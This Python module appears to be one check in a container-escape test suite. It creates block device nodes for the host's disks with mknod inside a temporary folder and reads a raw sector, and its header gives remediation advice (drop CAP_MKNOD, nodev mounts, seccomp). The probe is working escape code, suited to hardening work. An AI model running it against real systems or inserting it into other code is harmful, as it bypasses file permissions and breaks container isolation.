# title: Make a device file of a disk
# tries: Makes a block device file with the numbers of the machine's disks in a folder of its own, and opens it. A disk holds every file, whatever their permissions.
# impact: Escape
# proof: returned
# host: run
# advice: Take CAP_MKNOD away, mount what can be written to with nodev, and refuse mknod by seccomp.

# SCSI, virtio, device mapper, NVMe, Xen, eMMC, loop
USUAL = ((8, 0), (252, 0), (253, 0), (254, 0), (259, 0), (202, 0), (179, 0), (7, 0))


def attempt(host):
    import os
    import stat
    import tempfile

    root = os.stat("/").st_dev
    failure = None
    with tempfile.TemporaryDirectory() as folder:
        for number, device in enumerate([root, *(os.makedev(*pair) for pair in USUAL)]):
            path = os.path.join(folder, f"disk{number}")
            try:
                os.mknod(path, stat.S_IFBLK | 0o600, device)
                descriptor = os.open(path, os.O_RDONLY)
                sector = os.read(descriptor, 512)
                os.close(descriptor)
            except OSError as error:
                failure = failure or error
                continue
            return f"opened device {os.major(device)}:{os.minor(device)}, read {len(sector)} bytes"
    raise failure
